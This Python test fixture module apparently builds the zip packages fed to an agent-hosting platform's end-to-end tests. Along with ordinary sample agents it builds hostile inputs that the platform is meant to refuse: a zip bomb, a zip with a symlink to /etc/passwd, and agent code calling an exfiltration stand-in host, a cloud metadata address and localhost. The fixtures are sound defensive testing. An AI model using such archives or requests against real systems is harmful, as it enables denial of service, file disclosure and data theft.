"""Zips that creators send: the documented agent, a slow one, and what must be refused."""

import io
import json
import re
import stat
import zipfile
from decimal import Decimal
from pathlib import Path

from tests.e2e.product import ROOT

DOCUMENT = (ROOT / "docs/creators/first-agent.md").read_text(encoding="utf-8")
BLOCK = re.compile(r"^```\w+ file=(\S+)\n(.*?)^```$", re.MULTILINE | re.DOTALL)
ORDER_TOTALS = {name: content for name, content in BLOCK.findall(DOCUMENT)}  # noqa: C416  # pairs, read as such
README = (
    "# Order Totals\n\n## What it does\nAdds up orders.\n\n## Input\nA CSV file.\n\n## Output\nA row for each order.\n"
)

SLOW_MANIFEST = """\
schema: agentplatform.dev/agent/v1
slug: slow-counter
name: Slow Counter
version: 1.0.0
summary: Counts slowly and charges each number.
category: engineering
kind: job
source: {type: code, entry: "main:count"}
input:
  type: object
  required: [numbers]
  properties:
    numbers: {type: integer, title: Numbers, minimum: 1, maximum: 2000}
    pause_ms: {type: integer, title: Pause, minimum: 0, maximum: 1000, default: 50}
output:
  item: {type: object, required: [number], properties: {number: {type: integer}}}
resources: {memory_mb: 64, timeout_seconds: 120}
pricing:
  model: per_event
  events: {number: {title: Number counted, price: "0.001"}}
  smallest_cap: "0.01"
"""
SLOW_MAIN = """\
import time

from agent_platform.sdk import Run, agent


@agent
def count(run: Run) -> None:
    for number in range(1, run.input["numbers"] + 1):
        if not run.emit({"number": number}, event="number", key=str(number)):
            return
        time.sleep(run.input["pause_ms"] / 1000)
"""
SLOW_COUNTER = {"agent.yaml": SLOW_MANIFEST, "main.py": SLOW_MAIN}
MICRO_USD_PER_NUMBER = 1_000

# Ten mistakes, each at a place of its own.
TEN_MISTAKES = """\
schema: agentplatform.dev/agent/v9
slug: Order Totals!
name: ""
version: "1.0"
summary: Adds up each row of an order list.
category: nonsense
kind: job
source: {type: code, entry: "main add_up", python: ">=3.11"}
input:
  type: object
  required: [file]
  properties:
    file: {type: string, format: file, default: x}
output:
  item: {type: object, properties: {row: {type: integer}}}
  views: [{id: rows, title: Rows, type: table, columns: [row, total]}]
resources: {memory_mb: 4, timeout_seconds: 600}
pricing:
  model: per_event
  events: {row: {title: Row, price: 0.0002}}
"""
TEN_PLACES = (
    *("schema", "slug", "name", "version", "category", "source.entry"),
    *("input.properties.file", "output.views", "resources.memory_mb", "pricing.events.row.price"),
)


def packed(files: dict[str, str | bytes], *, folder: str = "") -> bytes:
    """A zip of these files, all below `folder` if it is given."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(f"{folder}/{name}" if folder else name, text)
    return content.getvalue()


def order_totals(path: Path) -> Path:
    """The documented agent as a person packs it by hand, with a README."""
    path.write_bytes(packed({**ORDER_TOTALS, "README.md": README}, folder="order-totals"))
    return path


def slow_counter() -> bytes:
    return packed({**SLOW_COUNTER}, folder="slow-counter")


def bomb() -> bytes:
    """1 GiB of nothing in about 1 MB."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in ORDER_TOTALS.items():
            archive.writestr(name, text)
        with archive.open("zeros.bin", "w") as zeros:
            for _ in range(1024):
                zeros.write(bytes(1 << 20))
    return content.getvalue()


def with_link(files: dict[str, bytes]) -> bytes:
    """A zip in which one entry is a symbolic link to a file of the system."""
    content = io.BytesIO(packed({**files}))
    with zipfile.ZipFile(content, "a") as archive:
        link = zipfile.ZipInfo("passwd")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return content.getvalue()


def orders_csv(rows: int) -> bytes:
    lines = [f"item {n},{_quantity(n)},{_price(n)}" for n in range(1, rows + 1)]
    return ("item,quantity,price\n" + "\n".join(lines) + "\n").encode()


def expected_rows(rows: int) -> list[dict[str, str]]:
    """What the export of a run on `orders_csv` must hold, to the last row."""
    return [
        {"row": str(n), "item": f"item {n}", "amount": json.dumps(float(_quantity(n) * _price(n)))}
        for n in range(1, rows + 1)
    ]


def _quantity(number: int) -> int:
    return number % 7 + 1


def _price(number: int) -> Decimal:
    return Decimal(number % 100) + Decimal("0.50")


ASKER_MANIFEST = """\
schema: agentplatform.dev/agent/v1
slug: reply-sender
name: Reply Sender
version: 1.0.0
summary: Drafts replies and asks before it sends them.
category: support
kind: job
source: {type: code, entry: "main:send"}
input:
  type: object
  properties:
    number: {type: integer, title: Replies, minimum: 1, maximum: 20, default: 9, prefill: 9}
output:
  item: {type: object, required: [reply], properties: {reply: {type: integer, title: Reply}, sent: {type: boolean, title: Sent}}}
permissions:
  network: [{host: metadata.internal.example, ports: [80], methods: [GET], why: Shows that private addresses are refused.}]
resources: {memory_mb: 64, timeout_seconds: 60}
pricing: {model: free}
"""
ASKER_MAIN = """\
from agent_platform.sdk import AgentError, Run, agent

FORM = {"type": "object", "properties": {"subject": {"type": "string", "title": "Subject", "maxLength": 60}}}


@agent
def send(run: Run) -> dict:
    for url in ("https://exfiltrate.example/?all=1", "http://169.254.169.254/latest/", "http://127.0.0.1/"):
        try:
            run.http.get(url)
        except AgentError as error:
            run.log.warn(error.text)
    facts = {"replies": run.input["number"], "to": "support inbox", "longest_wait": "6 h 12 min"}
    decision = run.approval.request("send", f"Send {run.input['number']} drafted replies?", facts, form=FORM, expires_seconds=3600)
    for number in range(1, run.input["number"] + 1):
        run.emit({"reply": number, "sent": decision.approved}, key=str(number))
    return {"subject": decision.data.get("subject", "")}
"""


def reply_sender(path: Path) -> Path:
    """An agent that asks a person, and hosts that it may not ask."""
    path.write_bytes(packed({"agent.yaml": ASKER_MANIFEST, "main.py": ASKER_MAIN}, folder="reply-sender"))
    return path


ECHO_MANIFEST = """\
schema: agentplatform.dev/agent/v1
slug: form-echo
name: Form Echo
version: 1.0.0
summary: Gives back its input as it came.
category: engineering
kind: job
source: {type: code, entry: "main:echo"}
input:
  type: object
  properties:
    words: {type: array, title: Words, maxItems: 4, items: {type: string}, default: []}
    colours: {type: array, title: Colours, items: {type: string, enum: [red, green, "blue, dark"]}, default: []}
    limits: {type: object, title: Limits, additionalProperties: {type: integer, minimum: 0}, default: {}}
    orders:
      type: array
      title: Orders
      maxItems: 4
      default: []
      items:
        type: object
        required: [sku]
        properties:
          sku: {type: string, title: Article, description: Its number.}
          pieces: {type: integer, title: Pieces}
          size: {type: string, title: Size, enum: [S, L]}
          gift: {type: boolean, title: Gift}
          note: {type: string, title: Note, maxLength: 500}
    script: {type: string, title: Script, editor: code, default: ""}
resources: {memory_mb: 64, timeout_seconds: 30}
pricing: {model: free}
"""
ECHO_MAIN = """\
from agent_platform.sdk import Run, agent


@agent
def echo(run: Run) -> dict:
    return run.input
"""


def form_echo() -> bytes:
    """An agent with a field for each editor of several parts."""
    return packed({"agent.yaml": ECHO_MANIFEST, "main.py": ECHO_MAIN}, folder="form-echo")


FILES_MANIFEST = """\
schema: agentplatform.dev/agent/v1
slug: file-echo
name: File Echo
version: 1.0.0
summary: Gives back which files it was given.
category: data
kind: job
source: {type: code, entry: "main:go"}
input:
  type: object
  properties:
    file: {type: string, format: file, title: File}
    files: {type: array, items: {type: string, format: file}, title: Files}
output:
  result: {type: object, properties: {names: {type: array, items: {type: string}}}}
resources: {memory_mb: 64, timeout_seconds: 60}
pricing: {model: free}
"""
FILES_MAIN = """\
from agent_platform.sdk import Run, agent


@agent
def go(run: Run) -> dict:
    given = [run.input.get("file"), *run.input.get("files", [])]
    return {"names": [run.files.name(one) for one in given if one]}
"""


def file_echo() -> bytes:
    """An agent with a field for one file and one for several, neither of which is required."""
    return packed({"agent.yaml": FILES_MANIFEST, "main.py": FILES_MAIN}, folder="file-echo")
